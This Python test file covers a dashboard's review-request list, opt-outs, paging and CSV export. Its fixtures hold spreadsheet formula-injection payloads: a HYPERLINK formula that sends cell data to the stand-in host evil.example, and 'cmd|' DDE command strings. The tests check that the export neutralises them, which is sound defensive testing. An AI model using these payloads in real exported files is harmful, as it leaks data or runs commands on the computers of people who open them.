"""Review requests (W8) for the dashboard: the list with when each contact was last asked, marking them
asked, opting out and back in, the CSV download with the session, no live formulas in the CSV, and
the /requests page."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest

from server.contacts.importing import import_contacts
from server.storage import Store
from server.workflow.requests import inert, mark_sent
from tests.test_security import login
from tests.test_workflow import START, app, clock  # noqa: F401  (the app with the injected clock)

CONTACTS = ("Contact Id,First Name,Last Name,Phone,Email,Last Visit\n"
            "1,Ava,Reed,(512) 555-0101,ava@example.com,2026-10-30\n"
            "2,Luis,Ortega,+1 512 555 0102,luis@example.com,2026-10-28\n"
            "3,Mei,Chen,,mei@example.com,2026-10-25\n")
HOSTILE = ('Contact Id,Name,Phone,Email,Last Visit\n'  # the import keeps only real phones and e-mails
           '7,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",+1 512 555 0107,ann@example.com,2026-10-30\n'
           '8,"+cmd|\' /C calc\'!A0",,x@example.com,2026-10-30\n'
           '9,@SUM(A1),,sum@example.com,2026-10-30\n'
           '10,"\t-1+cmd|x",,tab@example.com,2026-10-30\n')


def imported(app, contacts: str = CONTACTS) -> None:
    with Store.connect(app.config["DATABASE"]) as store:
        import_contacts(store, contacts.encode(), "contacts.csv", now=START)


def listed(client, auth) -> dict[str, dict]:
    answer = client.get("/api/review-requests", headers=auth)
    assert answer.status_code == 200, answer.json
    return {contact["name"]: contact for contact in answer.json["contacts"]}


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3+cmd|x", "'-2+3+cmd|x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("\tplain", "'\tplain"),
    ("Ava Reed", "Ava Reed"), ("ava@example.com", "ava@example.com"), ("a=b", "a=b"), ("", ""), (None, ""),
    ("+1 512 555 0100", "+1 512 555 0100"), ("(512) 555-0100", "(512) 555-0100"), ("-5", "-5"),
])
def test_a_cell_never_becomes_a_live_formula(value, cell):
    assert inert(value) == cell


def test_the_csv_holds_hostile_contacts_as_text(app, client, auth):
    imported(app, HOSTILE)
    exported = client.get("/api/review-requests?format=csv", headers=auth)
    assert exported.status_code == 200 and exported.headers["Content-Disposition"] == "attachment; filename=review-requests.csv"
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
    assert rows[0] == ["name", "phone", "email", "last_seen_at"]
    by_email = {row[2]: row for row in rows[1:]}
    assert by_email["ann@example.com"][:2] == ['\'=HYPERLINK("http://evil.example/?x="&A1,"Click")', "5125550107"]
    assert by_email["x@example.com"][0] == "'+cmd|' /C calc'!A0"
    assert by_email["sum@example.com"][0] == "'@SUM(A1)"
    assert by_email["tab@example.com"][0] == "'-1+cmd|x"  # the import strips the tab; the minus is left
    for row in rows[1:]:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row)


def test_marking_contacts_asked_takes_them_off_the_list(app, client, auth):
    imported(app)
    contacts = listed(client, auth)
    assert set(contacts) == {"Ava Reed", "Luis Ortega", "Mei Chen"}
    assert all(contact["last_asked_at"] is None for contact in contacts.values())
    ids = [contacts["Ava Reed"]["contact_id"], contacts["Mei Chen"]["contact_id"]]
    answer = client.post("/api/review-requests/sent", headers=auth, json={"contact_ids": [*ids, ids[0]]})
    assert answer.status_code == 200 and answer.json["marked"] == 2
    assert set(listed(client, auth)) == {"Luis Ortega"}


def test_someone_asked_before_the_cap_is_listed_with_when(app, client, auth):
    imported(app)
    luis = listed(client, auth)["Luis Ortega"]["contact_id"]
    with Store.connect(app.config["DATABASE"]) as store:
        mark_sent(store, [luis], START - timedelta(days=91), None)  # asked last summer: the 90-day cap has passed
    assert listed(client, auth)["Luis Ortega"]["last_asked_at"] == "2026-08-03T09:00:00Z"
    with Store.connect(app.config["DATABASE"]) as store:
        mark_sent(store, [luis], START - timedelta(days=89), None)
    assert "Luis Ortega" not in listed(client, auth)


def test_marking_refuses_a_bad_body_and_unknown_contacts(app, client, auth):
    imported(app)
    for body in ({}, {"contact_ids": []}, {"contact_ids": ["1"]}, {"contact_ids": [True]}):
        refused = client.post("/api/review-requests/sent", headers=auth, json=body)
        assert refused.status_code == 400 and "contact_ids" in refused.json["message"]
    unknown = client.post("/api/review-requests/sent", headers=auth, json={"contact_ids": [999]})
    assert unknown.status_code == 404 and "999" in unknown.json["message"]
    assert len(listed(client, auth)) == 3


def test_an_opted_out_contact_leaves_the_list_and_can_come_back(app, client, auth):
    imported(app)
    mei = listed(client, auth)["Mei Chen"]["contact_id"]
    answer = client.post(f"/api/contacts/{mei}/opt-out", headers=auth, json={"opted_out": True})
    assert answer.status_code == 200 and answer.json["contact"]["opted_out"] is True
    assert set(listed(client, auth)) == {"Ava Reed", "Luis Ortega"}
    assert "Mei" not in client.get("/api/review-requests?format=csv", headers=auth).get_data(as_text=True)
    client.post(f"/api/contacts/{mei}/opt-out", headers=auth, json={"opted_out": False})
    assert "Mei Chen" in listed(client, auth)
    assert client.post("/api/contacts/999/opt-out", headers=auth, json={"opted_out": True}).status_code == 404
    assert client.post(f"/api/contacts/{mei}/opt-out", headers=auth, json={"opted_out": "yes"}).status_code == 400


def test_the_dashboard_session_downloads_the_csv(app, client, token):
    imported(app)
    login(client, token)
    link_click = {"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "navigate"}
    answer = client.get("/api/review-requests?format=csv", headers=link_click)
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    assert "Ava Reed" in answer.get_data(as_text=True)
    foreign = client.get("/api/review-requests?format=csv", headers={"Sec-Fetch-Site": "cross-site"})
    assert foreign.status_code == 403


def test_the_requests_page_says_the_rules_and_loads_its_script(client, token):
    assert client.get("/requests").headers["Location"].endswith("/login")
    login(client, token)
    answer = client.get("/requests")
    html = answer.get_data(as_text=True)
    assert answer.status_code == 200 and '<script type="module" src="/static/requests.js"></script>' in html
    text = re.sub(r"\s+", " ", html)
    assert "whatever you think of their visit" in text and "review gating" in text and "Never ask for Yelp reviews" in text
    assert 'href="/api/review-requests?format=csv"' in html
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html) and "style=" not in html
    script = client.get("/static/requests.js").get_data(as_text=True)
    assert "innerHTML" not in script and "insertAdjacentHTML" not in script


def test_the_list_comes_in_pages_most_recently_seen_first_and_the_csv_holds_everyone(app, client, auth):
    imported(app)
    first = client.get("/api/review-requests?limit=2", headers=auth).json
    assert (first["total"], first["limit"], first["offset"]) == (3, 2, 0)
    assert [c["name"] for c in first["contacts"]] == ["Ava Reed", "Luis Ortega"]  # seen Oct 30, then Oct 28
    rest = client.get("/api/review-requests?limit=2&offset=2", headers=auth).json
    assert [c["name"] for c in rest["contacts"]] == ["Mei Chen"] and rest["total"] == 3
    assert client.get("/api/review-requests", headers=auth).json["limit"] == 100
    rows = list(csv.reader(io.StringIO(client.get("/api/review-requests?format=csv&limit=1", headers=auth).get_data(as_text=True))))
    assert len(rows) == 4  # the header and all three, whatever page the dashboard shows
    for bad in ("limit=0", "limit=501", "offset=-1", "limit=ten"):
        answer = client.get(f"/api/review-requests?{bad}", headers=auth)
        assert answer.status_code == 400 and answer.json["error"] == "invalid_parameter"
